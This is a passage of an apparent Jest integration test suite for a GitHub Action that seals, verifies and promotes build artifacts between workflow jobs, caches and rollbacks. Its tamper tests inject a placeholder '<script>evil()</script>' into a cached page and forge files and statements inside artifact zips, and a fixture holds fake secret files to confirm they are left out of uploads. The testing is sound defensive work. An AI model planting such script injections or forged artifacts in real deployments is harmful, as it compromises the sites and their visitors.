import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { createHash, generateKeyPairSync } from 'node:crypto'
import * as fs from 'node:fs'
import * as path from 'node:path'
import type { Digest } from '../../src/core/digest.js'
import type { LedgerEntry } from '../../src/core/promotion/record.js'
import { FileLedger } from '../../src/stores/ledger/file-ledger.js'
import { type GitHubApiHost, startGitHubApiHost } from '../hosts/github-api-host.js'
import { type ResultsServiceHost, startResultsServiceHost } from '../hosts/results-service-host.js'
import { runAction, runPost } from '../helpers/runner.js'
import { signedBy } from '../helpers/signed-by.js'
import { removeAll, shellTreeDigest, tempDir, writeTree } from '../helpers/trees.js'
import type { TarEntrySpec } from '../hosts/results/tar.js'
import { readZip, writeZipEntries } from '../hosts/results/zip.js'

const SEAL = 'dist/seal/index.js'
const VERIFY = 'dist/verify/index.js'
const PROMOTE = 'dist/promote/index.js'
const POST = 'dist/promote/post.js'
const REPO = 'acme/shop'
const POLICY = 'environments:\n  dev: {}\n  production:\n    requires: [dev]\n'

let results: ResultsServiceHost
let github: GitHubApiHost
let ledgerFile: string
let policyFile: string
/**
 * Every job of every run sees the same RUNNER_TEMP, as on hosted runners: the cache's version
 * hashes the staging path.
 */
let runnerTemp: string

beforeAll(async () => {
  results = await startResultsServiceHost()
  github = await startGitHubApiHost({ artifactSource: results.artifactSource })
  github.addToken('ghs_no-actions', { deployments: 'write', actions: 'none' })
  results.setGitHubApiUrl(github.url)
  const shared = tempDir('shared-')
  ledgerFile = path.join(shared, 'ledger.jsonl')
  policyFile = path.join(shared, 'promotion.yml')
  fs.writeFileSync(policyFile, POLICY)
  await new FileLedger(ledgerFile, 'ledger').init()
  runnerTemp = tempDir('runner-temp-shared-')
}, 60_000)

afterAll(async () => {
  await github?.close()
  await results?.close()
  removeAll()
})

let nextRun = 51_000

/** One step of one job of a workflow run, as a runner runs the bundled action. */
function step(
  entry: string,
  runId: number,
  jobId: string,
  inputs: Record<string, string>,
  workspace?: string,
  temp = runnerTemp
) {
  const env = {
    ...results.runnerEnv({ runId, jobId, repository: REPO }),
    GITHUB_API_URL: github.url,
    RUNNER_TEMP: temp
  }
  return runAction(entry, inputs, { env, ...(workspace ? { workspace } : {}) })
}

function promote(
  runId: number,
  inputs: Record<string, string>,
  temp = runnerTemp,
  workspace?: string
) {
  return step(
    PROMOTE,
    runId,
    'deploy',
    { ledger: `file:${ledgerFile}`, policy: policyFile, 'github-token': github.token, ...inputs },
    workspace,
    temp
  )
}

/** A deploy job that succeeds: the promote step, then its post step confirming the deployment. */
async function deployJob(runId: number, inputs: Record<string, string>) {
  const all = {
    ledger: `file:${ledgerFile}`,
    policy: policyFile,
    'github-token': github.token,
    ...inputs
  }
  const main = await step(PROMOTE, runId, 'deploy', all)
  expect(main.code).toBe(0)
  const env = {
    ...results.runnerEnv({ runId, jobId: 'deploy', repository: REPO }),
    GITHUB_API_URL: github.url,
    RUNNER_TEMP: runnerTemp
  }
  const post = await runPost(POST, main, all, { env })
  expect(post.code).toBe(0)
  return main
}

const SITE = {
  'index.html': '<h1>shop</h1>\n',
  'assets/app.js': 'start()\n',
  'config/production.json': '{"debug":false}\n'
}

/** A build job that seals the site and uploads it (bundle and files) and caches it. */
async function buildRun(page: string, extra: Record<string, string> = {}) {
  const runId = nextRun++
  const workspace = writeTree(
    tempDir('workspace-'),
    Object.fromEntries(
      Object.entries({ ...SITE, 'index.html': page }).map(([p, c]) => [`site/${p}`, c])
    )
  )
  const seal = await step(
    SEAL,
    runId,
    'build',
    { 'subject-path': 'site', 'subject-name': 'shop', upload: 'true', cache: 'true', ...extra },
    workspace
  )
  expect(seal.stdout).not.toContain('::error')
  expect(seal.code).toBe(0)
  return {
    runId,
    workspace,
    digest: seal.outputs.digest as Digest,
    outputs: seal.outputs,
    summary: seal.summary
  }
}

describe('sealed bytes carried between jobs and runs', () => {
  it('uploads the bundle and files as one immutable workflow artifact, and caches them by digest', async () => {
    const build = await buildRun('<h1>v1</h1>\n')
    const hosted = results.artifacts().find((a) => a.runId === build.runId)
    expect(build.outputs).toMatchObject({
      'artifact-id': String(hosted?.id),
      'artifact-url': `https://github.com/${REPO}/actions/runs/${build.runId}/artifacts/${hosted?.id}`,
      'artifact-digest': expect.stringMatching(/^sha256:[0-9a-f]{64}$/)
    })
    expect(results.cacheEntries().map((e) => e.key)).toContain(
      `artifact-seal-files-sha256-${build.digest.slice(7)}`
    )
    // The summary's step for a later job downloads the artifact: the workspace's files are not on its runner.
    expect(build.summary).toContain('      name: shop-sealed\n      expected-digest:')

    const again = await step(
      SEAL,
      build.runId,
      'build-again',
      { 'subject-path': 'site', 'subject-name': 'shop', upload: 'seal' },
      build.workspace
    )
    expect(again.code).toBe(1)
    expect(again.stdout).toMatch(/::error::name: .*"shop-sealed".*immutable/)
    expect(again.outputs).toEqual({})
  })

  it('downloads and verifies in a later job of the same run, and hands the path to the deploy step', async () => {
    const build = await buildRun('<h1>same run</h1>\n')
    const verify = await step(VERIFY, build.runId, 'check', {
      name: 'shop-sealed',
      'expected-digest': build.digest
    })
    expect(verify.code).toBe(0)
    expect(verify.outputs).toMatchObject({ verified: 'true', digest: build.digest })
    expect(shellTreeDigest(verify.outputs.path as string)).toBe(build.digest)

    const deploy = await promote(build.runId, {
      environment: 'dev',
      'expected-digest': build.digest,
      name: 'shop-sealed'
    })
    expect(deploy.code).toBe(0)
    expect(deploy.outputs.promoted).toBe('true')
    expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
    expect(
      fs.readFileSync(path.join(deploy.outputs.path as string, 'config/production.json'), 'utf8')
    ).toBe('{"debug":false}\n')
  })

  it('downloads from the run of the repository named in repository, as download-artifact does', async () => {
    const build = await buildRun('<h1>repository</h1>\n')
    const named = await step(VERIFY, nextRun++, 'check', {
      name: 'shop-sealed',
      'expected-digest': build.digest,
      'run-id': String(build.runId),
      repository: REPO,
      'github-token': github.token
    })
    expect(named.code).toBe(0)
    expect(shellTreeDigest(named.outputs.path as string)).toBe(build.digest)
    const elsewhere = await step(VERIFY, nextRun++, 'check', {
      name: 'shop-sealed',
      'expected-digest': build.digest,
      'run-id': String(build.runId),
      repository: 'acme/other',
      'github-token': github.token
    })
    expect(elsewhere.code).toBe(1)
    expect(elsewhere.stdout).toMatch(/::error::.*acme\/other/)
    expect(elsewhere.outputs.path ?? '').toBe('')
  })

  it('downloads from another run with run-id and a token, and records where the files are', async () => {
    const build = await buildRun('<h1>other run</h1>\n')
    const deployRun = nextRun++
    const deploy = await promote(deployRun, {
      environment: 'dev',
      'expected-digest': build.digest,
      name: 'shop-sealed',
      'run-id': String(build.runId)
    })
    expect(deploy.code).toBe(0)
    expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
    const ledger = new FileLedger(ledgerFile, 'ledger')
    const latest = (await ledger.entries({ digest: build.digest })[Symbol.asyncIterator]().next())
      .value
    expect(latest).toMatchObject({
      outcome: 'pending',
      artifact: { name: 'shop-sealed', runId: String(build.runId) }
    })
    // The statement that travelled with the files says which build sealed them.
    expect(latest?.sealedBy).toEqual({
      repository: REPO,
      commit: '0123456789abcdef0123456789abcdef01234567',
      runUrl: expect.stringContaining(`/acme/shop/actions/runs/${build.runId}/attempts/`)
    })
  })

  it(
    'restores by digest from the cache for a rollback, and falls back to the artifact the ledger names when ' +
      'the entry is gone',
    async () => {
      const v1 = await buildRun('<h1>r1</h1>\n')
      const v2 = await buildRun('<h1>r2</h1>\n')
      for (const build of [v1, v2]) {
        for (const environment of ['dev', 'production']) {
          await deployJob(build.runId, {
            environment,
            'expected-digest': build.digest,
            name: 'shop-sealed'
          })
        }
      }
      const rollback = await promote(nextRun++, {
        environment: 'production',
        rollback: 'true',
        'expected-digest': v1.digest
      })
      expect(rollback.stdout).toContain(
        `Restored artifact-seal-files-sha256-${v1.digest.slice(7)} from the Actions cache and verified it`
      )
      expect(rollback.code).toBe(0)
      expect(shellTreeDigest(rollback.outputs.path as string)).toBe(v1.digest)

      await results.deleteCacheEntry(`artifact-seal-files-sha256-${v2.digest.slice(7)}`)
      const forward = await promote(nextRun++, {
        environment: 'production',
        rollback: 'true',
        'expected-digest': v2.digest
      })
      expect(forward.stdout).toContain(
        `no cache entry for ${v2.digest}; downloading the workflow artifact "shop-sealed" of run ${v2.runId} ` +
          'that the ledger names'
      )
      expect(forward.code).toBe(0)
      expect(shellTreeDigest(forward.outputs.path as string)).toBe(v2.digest)
    }
  )

  it('a single sealed file round trips through the cache: path is the file, in a private directory', async () => {
    const runId = nextRun++
    const workspace = writeTree(tempDir('workspace-'), { 'out/app.tgz': `archive ${runId}\n` })
    const seal = await step(
      SEAL,
      runId,
      'build',
      { 'subject-path': 'out/app.tgz', cache: 'true' },
      workspace
    )
    expect(seal.code).toBe(0)
    const digest = seal.outputs.digest as Digest
    const deploy = await promote(nextRun++, { environment: 'dev', 'expected-digest': digest })
    expect(deploy.code).toBe(0)
    const handedOut = deploy.outputs.path as string
    expect(path.basename(handedOut)).toBe('app.tgz')
    expect(fs.readFileSync(handedOut, 'utf8')).toBe(`archive ${runId}\n`)
    expect(path.relative(runnerTemp, handedOut).split(path.sep).slice(0, 2)).toEqual([
      'artifact-seal',
      'downloads'
    ])
    expect(fs.statSync(path.dirname(path.dirname(handedOut))).mode & 0o777).toBe(0o700)
  })

  it('a key-signed seal restored from the cache verifies against the key: the entry carries the seal bundle', async () => {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const key = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
    const build = await buildRun('<h1>keyed</h1>\n', { sign: 'key', 'signing-key': key })
    const pub = publicKey.export({ type: 'spki', format: 'pem' }).toString()
    const deploy = await promote(nextRun++, {
      environment: 'dev',
      'expected-digest': build.digest,
      'signed-by': signedBy({ key: pub })
    })
    expect(deploy.stdout).toContain(
      `Restored artifact-seal-files-sha256-${build.digest.slice(7)} from the Actions cache`
    )
    expect(deploy.stdout).not.toContain('::error')
    expect(deploy.code).toBe(0)
    expect(deploy.outputs).toMatchObject({
      promoted: 'true',
      signer: expect.stringMatching(/key/i)
    })
    expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
  })

  it(
    'a signed seal covers its modes: a modes file and statement both changed in the artifact are refused by ' +
      'the signature check',
    async () => {
      const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
      const build = await buildRun('<h1>signed modes</h1>\n', {
        sign: 'key',
        'signing-key': privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
      })
      const hosted = results.artifacts().find((a) => a.runId === build.runId)
      const forged = Buffer.from('{"executable":["index.html"],"links":{}}\n')
      const forgedDigest = `sha256:${createHash('sha256').update(forged).digest('hex')}`
      const entries = [...readZip(await results.artifactZip(hosted?.id as number))].map(
        ([name, content]) => {
          if (name === 'seal/shop.modes.json') return { name, content: forged }
          if (name !== 'seal/shop.intoto.json') return { name, content }
          const statement = JSON.parse(content.toString())
          statement.subject[0].annotations['artifact-seal.modes'] = { digest: forgedDigest }
          return { name, content: Buffer.from(JSON.stringify(statement)) }
        }
      )
      await results.replaceArtifactZip(hosted?.id as number, writeZipEntries(entries), {
        recordDigest: true
      })
      const pub = publicKey.export({ type: 'spki', format: 'pem' }).toString()
      const deploy = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest,
        name: 'shop-sealed',
        'run-id': String(build.runId),
        'signed-by': signedBy({ key: pub })
      })
      expect(deploy.code).toBe(1)
      expect(deploy.stdout).toContain('shop.modes.json')
      expect(deploy.stdout).toMatch(
        /is not the modes file it records \(sha256:[0-9a-f]{64}\): it was changed after sealing/
      )
      expect(deploy.outputs.promoted).not.toBe('true')
    }
  )

  it('the execute bit comes back the same from the workflow artifact and from the cache', async () => {
    const runId = nextRun++
    const workspace = writeTree(tempDir('workspace-'), {
      'site/index.html': `x ${runId}\n`,
      'site/bin/run.sh': '#!/bin/sh\necho run\n'
    })
    fs.chmodSync(path.join(workspace, 'site/bin/run.sh'), 0o755)
    const seal = await step(
      SEAL,
      runId,
      'build',
      { 'subject-path': 'site', 'subject-name': 'modes', upload: 'true', cache: 'true' },
      workspace
    )
    expect(seal.code).toBe(0)
    const digest = seal.outputs.digest as Digest
    const viaArtifact = await step(VERIFY, runId, 'check', {
      name: 'modes-sealed',
      'expected-digest': digest
    })
    const viaCache = await promote(nextRun++, { environment: 'dev', 'expected-digest': digest })
    const modes = [viaArtifact, viaCache].map(
      (r) => fs.statSync(path.join(r.outputs.path as string, 'bin/run.sh')).mode & 0o111
    )
    expect(modes).toEqual([0o111, 0o111])
  })

  it(
    'file modes: links and execute bits are sealed beside an unchanged listing, restored by both carriers, ' +
      'and a change is a mismatch naming the file',
    async () => {
      const runId = nextRun++
      const workspace = writeTree(tempDir('workspace-'), {
        'site/index.html': `modes ${runId}\n`,
        'site/bin/run.sh': '#!/bin/sh\n',
        'site/v2/app.js': 'a()\n'
      })
      const site = path.join(workspace, 'site')
      fs.chmodSync(path.join(site, 'bin/run.sh'), 0o755)
      fs.symlinkSync('v2', path.join(site, 'current'))
      fs.symlinkSync('bin/run.sh', path.join(site, 'start'))
      const seal = await step(
        SEAL,
        runId,
        'build',
        { 'subject-path': 'site', 'subject-name': 'linked', upload: 'true', cache: 'true' },
        workspace
      )
      expect(seal.code).toBe(0)
      const digest = seal.outputs.digest as Digest
      // The listing and the digest are what sha256sum and Go's dirhash give, links followed.
      expect(digest).toBe(shellTreeDigest(site))
      const modesFile = (seal.outputs['checksums-path'] as string).replace(
        /\.sha256$/,
        '.modes.json'
      )
      expect(JSON.parse(fs.readFileSync(modesFile, 'utf8'))).toEqual({
        executable: ['bin/run.sh', 'start'],
        links: { current: 'v2', start: 'bin/run.sh' }
      })

      const viaArtifact = await step(VERIFY, runId, 'check', {
        name: 'linked-sealed',
        'expected-digest': digest
      })
      const viaCache = await promote(nextRun++, { environment: 'dev', 'expected-digest': digest })
      for (const handed of [viaArtifact, viaCache]) {
        expect(handed.code).toBe(0)
        const out = handed.outputs.path as string
        expect([
          fs.readlinkSync(path.join(out, 'current')),
          fs.readlinkSync(path.join(out, 'start')),
          fs.statSync(path.join(out, 'bin/run.sh')).mode & 0o111
        ]).toEqual(['v2', 'bin/run.sh', 0o111])
      }

      fs.chmodSync(path.join(site, 'bin/run.sh'), 0o644)
      const changed = await step(
        VERIFY,
        runId,
        'check',
        {
          'subject-path': 'site',
          'expected-digest': digest,
          'checksums-path': seal.outputs['checksums-path'] as string
        },
        workspace
      )
      expect([changed.code, changed.outputs.verified]).toEqual([1, 'false'])
      expect(changed.stdout).toMatch(
        /::error title=artifact-seal%3A mode file::bin\/run\.sh changed its mode since it was sealed \(sealed executable, now not executable\)/
      )
    }
  )

  it(
    "a modes file changed in the stored artifact is refused, though the zip's recorded digest was made to " +
      'match',
    async () => {
      const build = await buildRun('<h1>modes tampered</h1>\n')
      const hosted = results.artifacts().find((a) => a.runId === build.runId)
      const entries = [...readZip(await results.artifactZip(hosted?.id as number))].map(
        ([name, content]) => ({
          name,
          content:
            name === 'seal/shop.modes.json'
              ? Buffer.from('{"executable":["index.html"],"links":{}}\n')
              : content
        })
      )
      await results.replaceArtifactZip(hosted?.id as number, writeZipEntries(entries), {
        recordDigest: true
      })
      const verify = await step(VERIFY, build.runId, 'check', {
        name: 'shop-sealed',
        'expected-digest': build.digest
      })
      expect(verify.code).toBe(1)
      expect(verify.stdout).toMatch(
        /::error::name: "seal\/shop\.modes\.json"|is not the modes file the statement records/
      )
      expect(verify.outputs).toEqual({})
    }
  )

  it(
    'bytes by default: with no source given, promote takes the cache entry of the digest, else the workflow ' +
      'artifact the ledger names, and refuses when neither has them',
    async () => {
      const build = await buildRun('<h1>by default</h1>\n')
      const dev = await promote(nextRun++, { environment: 'dev', 'expected-digest': build.digest })
      expect(dev.stdout).toContain(
        `Restored artifact-seal-files-sha256-${build.digest.slice(7)} from the Actions cache`
      )
      expect([dev.code, dev.outputs.promoted]).toEqual([0, 'true'])
      expect(shellTreeDigest(dev.outputs.path as string)).toBe(build.digest)

      await deployJob(build.runId, {
        environment: 'dev',
        'expected-digest': build.digest,
        name: 'shop-sealed'
      })
      await results.deleteCacheEntry(`artifact-seal-files-sha256-${build.digest.slice(7)}`)
      const production = await promote(nextRun++, {
        environment: 'production',
        'expected-digest': build.digest
      })
      expect(production.stdout).toContain(
        `no cache entry for ${build.digest}; downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`
      )
      expect([production.code, production.outputs.promoted]).toEqual([0, 'true'])
      expect(shellTreeDigest(production.outputs.path as string)).toBe(build.digest)

      const runId = nextRun++
      const workspace = writeTree(tempDir('workspace-'), {
        'site/index.html': `never carried ${runId}\n`
      })
      const uncarried = await step(
        SEAL,
        runId,
        'build',
        { 'subject-path': 'site', 'subject-name': 'shop' },
        workspace
      )
      const refused = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': uncarried.outputs.digest as string
      })
      expect(refused.code).toBe(1)
      const error = refused.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? ''
      for (const named of ['No bytes to check', 'subject-path', 'name', '"digest-only: true"'])
        expect(error).toContain(named)
      // Bytes that could not be had are a refusal like an expired artifact: recorded, nothing to deploy.
      expect(refused.outputs).toMatchObject({ promoted: 'false', path: '' })
      expect(JSON.parse(refused.outputs.decision as string)).toMatchObject({
        allowed: false,
        checks: [{ rule: 'bytes', passed: false }]
      })
      const latest = (
        await new FileLedger(ledgerFile, 'ledger')
          .entries({ digest: uncarried.outputs.digest as Digest })
          [Symbol.asyncIterator]()
          .next()
      ).value
      expect(latest).toMatchObject({
        outcome: 'refused',
        environment: 'dev',
        reason: expect.stringContaining('No bytes to check')
      })
    }
  )

  it(
    "fan-in: subject-parts names the legs' workflow artifacts by a glob; the merged seal downloads and " +
      'verifies each, carries the laid-out tree, and its verify snippet runs as ' +
      'written',
    async () => {
      const runId = nextRun++
      const legs = {
        linux: { 'out/app': 'elf\n', 'out/lib/x.so': 'so\n' },
        mac: { 'out/app': 'macho\n' }
      }
      for (const [leg, files] of Object.entries(legs)) {
        const workspace = writeTree(tempDir('workspace-'), files)
        const sealed = await step(
          SEAL,
          runId,
          `build-${leg}`,
          { 'subject-path': 'out', 'subject-name': leg, upload: 'true', name: `parts-${leg}` },
          workspace
        )
        expect(sealed.code).toBe(0)
      }
      const merge = await step(
        SEAL,
        runId,
        'release',
        { 'subject-parts': 'parts-*', 'subject-name': 'release', upload: 'true' },
        tempDir('workspace-')
      )
      expect(merge.stdout).not.toContain('::error')
      expect(merge.code).toBe(0)
      const laidOut = writeTree(tempDir('laid-out-'), {
        'linux/app': 'elf\n',
        'linux/lib/x.so': 'so\n',
        'mac/app': 'macho\n'
      })
      expect(merge.outputs.digest).toBe(shellTreeDigest(laidOut))
      expect(
        await (async () => {
          const hosted = results
            .artifacts()
            .find((a) => a.runId === runId && a.name === 'release-sealed')
          return [...readZip(await results.artifactZip(hosted?.id as number)).keys()]
            .filter((n) => n.startsWith('files/'))
            .sort()
        })()
      ).toEqual(['files/linux/app', 'files/linux/lib/x.so', 'files/mac/app'])

      // The summary's snippet, as a user copies it into a later job.
      const snippet = /```yaml\n([\s\S]*?)```/.exec(merge.summary)?.[1] ?? ''
      const withLines = snippet
        .split('\n')
        .slice(snippet.split('\n').findIndex((l) => l.trim() === 'with:') + 1)
        .filter((l) => /^\s+[a-z-]+: /.test(l))
      const inputs = Object.fromEntries(
        withLines.map(
          (l) =>
            l
              .trim()
              .split(/: (.*)/s)
              .slice(0, 2) as [string, string]
        )
      )
      expect(Object.keys(inputs).sort()).toEqual(['expected-digest', 'name'])
      inputs['expected-digest'] = (inputs['expected-digest'] as string).replace(
        /\$\{\{ needs\.[a-z-]+\.outputs\.digest \}\}/,
        merge.outputs.digest as string
      )
      const verify = await step(VERIFY, runId, 'deploy', inputs)
      expect([verify.code, verify.outputs.verified]).toEqual([0, 'true'])
      expect(shellTreeDigest(verify.outputs.path as string)).toBe(merge.outputs.digest)
    }
  )

  describe('safe carrying', () => {
    const HIDDEN = {
      'site/index.html': '<h1>hidden</h1>\n',
      'site/.env': 'PASSWORD=hunter2\n',
      'site/.git/config': '[core]\n',
      'site/deploy/id_rsa': 'key\n',
      'site/tls/server.key': 'key\n'
    }
    const zipNames = async (runId: number, name: string): Promise<string[]> => {
      const hosted = results.artifacts().find((a) => a.runId === runId && a.name === name)
      return [...readZip(await results.artifactZip(hosted?.id as number)).keys()].sort()
    }

    it(
      'leaves hidden and secret-looking files out of the seal and the upload, and lists them in left-out and ' +
        'the summary',
      async () => {
        const runId = nextRun++
        const workspace = writeTree(tempDir('workspace-'), HIDDEN)
        const seal = await step(
          SEAL,
          runId,
          'build',
          { 'subject-path': 'site', 'subject-name': 'hidden', upload: 'true' },
          workspace
        )
        expect(seal.code).toBe(0)
        expect(JSON.parse(seal.outputs['left-out'] as string).sort()).toEqual([
          'site/.env',
          'site/.git/',
          'site/deploy/id_rsa',
          'site/tls/server.key'
        ])
        expect(seal.outputs['file-count']).toBe('1')
        expect(seal.summary).toContain('Left out: 4 hidden or secret-looking entries')
        expect(seal.summary).toContain('- `site/.env`')
        expect(await zipNames(runId, 'hidden-sealed')).toEqual([
          'files/index.html',
          'seal/hidden.intoto.json',
          'seal/hidden.modes.json',
          'seal/hidden.sha256'
        ])

        const asked = await step(
          SEAL,
          nextRun++,
          'build',
          { 'subject-path': 'site', 'subject-name': 'hidden', 'include-hidden-files': 'true' },
          workspace
        )
        expect(asked.code).toBe(0)
        expect([asked.outputs['file-count'], asked.outputs['left-out']]).toEqual(['5', '[]'])
      }
    )

    it(
      'verify of the same directory leaves out what the seal left out, and takes it in when the sealed ' +
        'listing names it',
      async () => {
        const runId = nextRun++
        const workspace = writeTree(tempDir('workspace-'), HIDDEN)
        const seal = await step(
          SEAL,
          runId,
          'build',
          { 'subject-path': 'site', 'subject-name': 'same-dir' },
          workspace
        )
        const verify = await step(
          VERIFY,
          runId,
          'check',
          { 'subject-path': 'site', 'expected-digest': seal.outputs.digest as string },
          workspace
        )
        expect([seal.code, verify.code, verify.outputs.verified]).toEqual([0, 0, 'true'])

        const all = await step(
          SEAL,
          runId,
          'build',
          { 'subject-path': 'site', 'subject-name': 'with-hidden', 'include-hidden-files': 'true' },
          workspace
        )
        const byListing = await step(
          VERIFY,
          runId,
          'check',
          {
            'subject-path': 'site',
            'expected-digest': all.outputs.digest as string,
            'checksums-path': all.outputs['checksums-path'] as string
          },
          workspace
        )
        expect([all.code, byListing.code, byListing.outputs.verified]).toEqual([0, 0, 'true'])
      }
    )

    it('an exclusion that matches nothing is a warning, not a failure', async () => {
      const workspace = writeTree(tempDir('workspace-'), { 'site/index.html': 'x\n' })
      const seal = await step(
        SEAL,
        nextRun++,
        'build',
        { 'subject-path': 'site\n!site/**/*.map' },
        workspace
      )
      expect(seal.code).toBe(0)
      expect(seal.stdout).toMatch(
        /::warning::subject-path: the exclusion "!site\/\*\*\/\*\.map" matched nothing/
      )
      expect(seal.outputs.digest).toBe(shellTreeDigest(path.join(workspace, 'site')))
    })

    it(
      'a job run again that uploads the same seal under the same name succeeds; another seal under the name ' +
        'is refused',
      async () => {
        const runId = nextRun++
        const workspace = writeTree(tempDir('workspace-'), {
          'site/index.html': `rerun ${runId}\n`
        })
        const inputs = { 'subject-path': 'site', 'subject-name': 'rerun', upload: 'true' }
        const first = await step(SEAL, runId, 'build', inputs, workspace)
        const again = await step(SEAL, runId, 'build', inputs, workspace)
        expect([first.code, again.code]).toEqual([0, 0])
        expect(again.outputs['artifact-id']).toBe(first.outputs['artifact-id'])
        expect(again.stdout).toContain('already holds this seal')
        fs.writeFileSync(path.join(workspace, 'site/index.html'), 'changed\n')
        const other = await step(SEAL, runId, 'build', inputs, workspace)
        expect(other.code).toBe(1)
        expect(other.stdout).toMatch(
          /::error::name: an artifact named "rerun-sealed" already exists in this workflow run and holds another seal/
        )
        expect(other.outputs).toEqual({})
      }
    )

    it("retention-days takes up to 400 and says what the repository's limit made of it", async () => {
      const runId = nextRun++
      const workspace = writeTree(tempDir('workspace-'), { 'site/index.html': `kept ${runId}\n` })
      const seal = await step(
        SEAL,
        runId,
        'build',
        { 'subject-path': 'site', 'subject-name': 'kept', upload: 'true', 'retention-days': '400' },
        workspace
      )
      expect(seal.code).toBe(0)
      // The test runner passes the repository's limit as GitHub does (GITHUB_RETENTION_DAYS, 90 here).
      expect(seal.stdout).toMatch(
        /::warning::retention-days: 400 days asked, but the repository allows at most 90: GitHub keeps it 90 days/
      )
      const hosted = results.artifacts().find((a) => a.runId === runId)
      expect(
        Math.round(
          (Date.parse(hosted?.expiresAt ?? '') - Date.parse(hosted?.createdAt ?? '')) / 86_400_000
        )
      ).toBe(90)
    })
  })

  describe('refused with a clear message, nothing left to deploy', () => {
    it('a tampered blob: the file is named and the download deleted', async () => {
      const build = await buildRun('<h1>tampered</h1>\n')
      const hosted = results.artifacts().find((a) => a.runId === build.runId)
      await results.tamperArtifactBlob(hosted?.id as number, (files) => {
        files.set('files/config/production.json', Buffer.from('{"debug":true}\n'))
      })
      const temp = tempDir('runner-temp-')
      const deploy = await promote(
        build.runId,
        { environment: 'dev', 'expected-digest': build.digest, name: 'shop-sealed' },
        temp
      )
      expect(deploy.code).toBe(1)
      expect(deploy.stdout).toContain(
        '::error title=artifact-seal%3A changed file::config/production.json changed since it was sealed.'
      )
      expect(deploy.stdout).toContain('config/production.json (changed) differ from the seal.')
      expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
      expect(JSON.parse(deploy.outputs.decision as string).checks).toEqual([
        expect.objectContaining({ rule: 'bytes', passed: false })
      ])
      const downloads = path.join(temp, 'artifact-seal', 'downloads')
      expect(fs.existsSync(downloads) ? fs.readdirSync(downloads) : []).toEqual([])

      const verify = await step(
        VERIFY,
        build.runId,
        'check',
        { name: 'shop-sealed', 'expected-digest': build.digest },
        undefined,
        temp
      )
      expect(verify.code).toBe(1)
      expect(verify.outputs).toMatchObject({ verified: 'false', path: '' })
      expect(JSON.parse(verify.outputs.mismatches as string)).toEqual([
        {
          path: 'config/production.json',
          expected: expect.stringMatching(/^sha256:/),
          actual: expect.stringMatching(/^sha256:/),
          kind: 'changed'
        }
      ])
      expect(verify.summary).toContain('| `config/production.json` | changed |')
      expect(fs.existsSync(downloads) ? fs.readdirSync(downloads) : []).toEqual([])
    })

    it('an expired artifact with no cache entry', async () => {
      const build = await buildRun('<h1>expired</h1>\n')
      expect(
        (
          await promote(build.runId, {
            environment: 'dev',
            'expected-digest': build.digest,
            name: 'shop-sealed'
          })
        ).code
      ).toBe(0)
      await results.expireArtifact(
        results.artifacts().find((a) => a.runId === build.runId)?.id as number
      )
      await results.deleteCacheEntry(`artifact-seal-files-sha256-${build.digest.slice(7)}`)
      const deploy = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest
      })
      expect(deploy.code).toBe(1)
      // A fetch that fails is a refusal like any other: recorded, and the step fails naming why.
      expect(deploy.stdout).toMatch(
        /::error::\S+ refused for dev: The bytes to deploy could not be fetched and checked: name: the artifact "shop-sealed" in workflow run \d+ of acme\/shop has expired/
      )
      expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
      const latest = (
        await new FileLedger(ledgerFile, 'ledger')
          .entries({ digest: build.digest })
          [Symbol.asyncIterator]()
          .next()
      ).value
      expect(latest).toMatchObject({
        outcome: 'refused',
        environment: 'dev',
        reason: expect.stringContaining('has expired')
      })
    })

    it('a missing cache entry and no artifact in the ledger', async () => {
      const build = await buildRun('<h1>never promoted</h1>\n', { cache: 'false' })
      const deploy = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest
      })
      expect(deploy.code).toBe(1)
      expect(deploy.stdout).toContain(
        'could not be fetched and checked: No bytes to check: none were named, and nothing the seal carried ' +
          `was found: the Actions cache has no entry for ${build.digest}`
      )
    })

    it('a cache entry whose restored bytes are not the digest', async () => {
      const build = await buildRun('<h1>cache tampered</h1>\n')
      await results.tamperCacheBlob(
        `artifact-seal-files-sha256-${build.digest.slice(7)}`,
        (file, content) =>
          file.endsWith('index.html')
            ? Buffer.concat([content, Buffer.from('<script>evil()</script>')])
            : undefined
      )
      const deploy = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest
      })
      expect(deploy.code).toBe(1)
      expect(deploy.stdout).toMatch(
        /could not be fetched and checked: cache: the cache entry artifact-seal-files-sha256-[0-9a-f]{64} was refused before anything was extracted/
      )
      expect(deploy.stdout).toMatch(
        /"[^"]*\/files\/index\.html": its content is not what the sealed listing says/
      )
      expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
    })

    it(
      'a cache entry whose restored bytes are not the digest falls back to the artifact the ledger names, ' +
        'saying so',
      async () => {
        const build = await buildRun('<h1>cache tampered, artifact whole</h1>\n')
        expect(
          (
            await promote(build.runId, {
              environment: 'dev',
              'expected-digest': build.digest,
              name: 'shop-sealed'
            })
          ).code
        ).toBe(0)
        await results.tamperCacheBlob(
          `artifact-seal-files-sha256-${build.digest.slice(7)}`,
          (file, content) =>
            file.endsWith('index.html')
              ? Buffer.concat([content, Buffer.from('<script>evil()</script>')])
              : undefined
        )
        const deploy = await promote(nextRun++, {
          environment: 'dev',
          'expected-digest': build.digest
        })
        expect(deploy.stdout).toContain(
          `the cache entry artifact-seal-files-sha256-${build.digest.slice(7)} was refused before anything was ` +
            `extracted; downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`
        )
        expect(deploy.code).toBe(0)
        expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
      }
    )

    it('a truncated download', async () => {
      const build = await buildRun('<h1>truncated</h1>\n')
      results.truncateDownloads({ keep: 'whole-entries' })
